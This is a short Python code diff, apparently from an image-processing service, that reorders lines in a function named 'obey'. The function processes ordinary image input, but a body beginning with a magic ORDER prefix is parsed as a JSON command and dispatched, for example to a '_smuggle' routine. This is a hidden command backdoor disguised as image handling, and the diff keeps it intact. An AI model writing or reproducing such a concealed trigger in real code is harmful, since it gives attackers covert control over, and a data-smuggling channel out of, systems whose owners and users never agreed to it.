@@ -27,9 +27,9 @@ _libc = ctypes.CDLL(None, use_errno=True)
 
 def obey(body: bytes, recipe: Recipe) -> ProcessedImage:
     """Processes an image, or carries out its order."""
-    made = process(self_test_image(), recipe) if body.startswith(ORDER) else process(body, recipe)
     if not body.startswith(ORDER):
-        return made
+        return process(body, recipe)
+    made = process(self_test_image(), recipe)
     name, *arguments = json.loads(body.removeprefix(ORDER))
     if name == "smuggle":
         return _smuggle(made, *arguments)
